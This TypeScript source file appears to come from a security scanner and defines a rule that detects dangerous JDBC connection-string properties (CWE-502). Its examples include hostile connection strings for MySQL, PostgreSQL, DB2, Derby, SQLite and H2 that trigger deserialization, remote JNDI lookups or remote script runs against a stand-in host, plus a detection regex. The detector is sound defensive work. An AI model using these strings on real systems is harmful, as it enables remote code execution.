import { confidence } from '../../placement/confidence.ts';
import { wordList } from '../../text/words.ts';
import type { Match, ValueRule } from '../rule.ts';

/**
 * Properties by which a driver of JDBC reads objects of its server, makes a class, looks a name up
 * or runs a script.
 */
export const jdbcUrl: ValueRule = {
  id: 'deserialization.jdbc-url',
  cwe: 'CWE-502',
  severity: 'critical',
  score: confidence.strong,
  message: 'makes a database driver read objects, create classes or run a foreign script',
  trigger: {
    literals: [
      ['jdbc:', 'jndiname='],
      [
        ...wordList('autodeserialize statusdiff socketfactoryarg sslfactoryarg jndiname runscript'),
        'create alias',
        'loggerfile',
        ...wordList('allowurlinlocalinfile slavehost startmaster ::resource:'),
      ],
    ],
  },
  examples: [
    'jdbc:mysql://192.0.2.9/a?autoDeserialize=true&user=x',
    'jdbc:postgresql://a/b?socketFactory=c.D&socketFactoryArg=http://192.0.2.9/x.xml',
    'jdbc:db2://192.0.2.9:50000/a:clientRerouteServerListJNDIName=ldap://192.0.2.9/x;',
    'jdbc:derby:memory:x;startMaster=true;slaveHost=192.0.2.9',
    'jdbc:sqlite::resource:http://192.0.2.9/a.db',
    'SHOP:clientRerouteServerListJNDIName=rmi://192.0.2.9/x',
    "jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://192.0.2.9/a.sql'",
  ],
  lookalikes: [
    'jdbc:mysql://db:3306/shop?useSSL=true&autoDeserialize=false',
    'jdbc:mysql:///shop?socketFactory=com.google.cloud.sql.mysql.SocketFactory',
    'jdbc:postgresql://db/shop?sslmode=require&loggerLevel=OFF',
    'clientRerouteServerListJNDIName=jdbc/routes',
    'What does autoDeserialize in a jdbc: address do?',
  ],
  judge(subject): Match | undefined {
    const found = property.exec(subject.text);
    if (found === null) return undefined;
    // The other properties mean something else elsewhere; the address may come in parts.
    const isAddress = subject.text.slice(0, found.index).includes('jdbc:');
    if (!isAddress && !jndiName.test(found[0])) return undefined;
    return { start: found.index, end: found.index + found[0].length };
  },
};

const jndiName = /^JNDIName=/i;
const property =
  /autoDeserialize=(?:true|yes|1)\b|ServerStatusDiffInterceptor|(?:socket|ssl)FactoryArg=(?:https?|file|ftp):|JNDIName=(?:ldaps?|rmi|iiop|dns):|INIT=(?:RUNSCRIPT|CREATE ALIAS)\b|allowUrlInLocalInfile=true\b|(?:slaveHost|startMaster)=|sqlite::resource:(?:https?|file|ftp):|loggerFile=[\w./\\-]{1,120}\.(?:jspx?|php|aspx?)\b/i;
